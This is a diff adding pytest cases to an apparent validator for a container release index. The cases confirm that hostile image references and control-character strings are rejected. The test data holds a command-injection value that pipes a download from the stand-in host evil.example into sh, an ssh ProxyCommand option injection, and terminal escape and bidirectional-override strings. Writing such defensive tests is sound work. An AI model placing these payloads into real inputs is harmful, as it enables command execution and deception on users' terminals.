@@ -141,6 +141,59 @@ def test_bad_index_names_source_and_field(mutate: Any, expect: str) -> None:
     assert "fix:" in msg
 
 
+@pytest.mark.parametrize(
+    "reference",
+    [
+        "ghcr.io/acme/x;curl${IFS}evil.example|sh:t",  # pasted from pick's `docker pull`, a shell runs it
+        "ghcr.io/acme/../x:t",
+        "ghcr.io//x:t",
+        "ghcr.io/acme/x y:t",
+        "ghcr.io/\u0430cme/x:t",  # a Cyrillic a
+        "ghcr.io/acme/X:t",
+        "ghcr.io/acme/x:-t",
+        "-oProxyCommand=x/y:t",  # an option to the program it is passed to
+        "ghcr.io:99999/x:t",
+        f"ghcr.io/acme/x:t@sha256:{'0' * 64}",  # a second digest, silently dropped
+    ],
+)
+def test_a_copy_reference_that_is_no_registry_reference_is_refused(reference: str) -> None:
+    """main took any text with a '/' and a ':' as a copy's reference: pick printed `docker pull <it>@sha256:…`
+    (and `--pull` passed it to docker) for a reference the registries.toml grammar never produces."""
+    msg = _bad(lambda d: d["images"][0]["registries"][0].update(reference=reference))
+    assert msg.startswith(
+        f"release index /srv/index.json: images[0].registries[0].reference: {reference!r} is not a "
+        "reference host[:port]/repository:tag"
+    )
+
+
+@pytest.mark.parametrize(
+    ("where", "value", "char"),
+    [
+        ("images[0].validated_on[0].gpu", "NVIDIA H100\x1b[2J", "U+001B"),  # clears the renter's screen
+        ("images[0].matrix", "h100\x1b]0;title\x07", "U+001B"),
+        ("images[0].registries[0].name", "ghcr\u202e", "U+202E"),  # prints the rest of the line reversed
+        ("images[0].fingerprint", "ab\u200bcd", "U+200B"),
+        ("images[0].registries[0].kind", "ghcr\n", "U+000A"),
+    ],
+)
+def test_an_index_string_with_a_control_character_is_refused(where: str, value: str, char: str) -> None:
+    """main printed an index's strings (GPU names, matrix, registry names) as they came: a terminal escape in
+    one ran on the renter's terminal when pick or index listed it."""
+
+    def put(doc: dict[str, Any]) -> None:
+        *path, last = where.replace("]", "").replace("[", ".").split(".")
+        node: Any = doc
+        for part in path:
+            node = node[int(part)] if part.isdigit() else node[part]
+        node[last] = value
+
+    msg = _bad(put)
+    assert msg.startswith(
+        f"release index /srv/index.json: {where}: {value[:80]!r} holds the control character {char}"
+    )
+    assert "regenerate it with imagesmith release" in msg
+
+
 def test_not_json() -> None:
     with pytest.raises(ConfigError, match=r"idx.json: not valid JSON"):
         parse_index("{nope", source="idx.json")
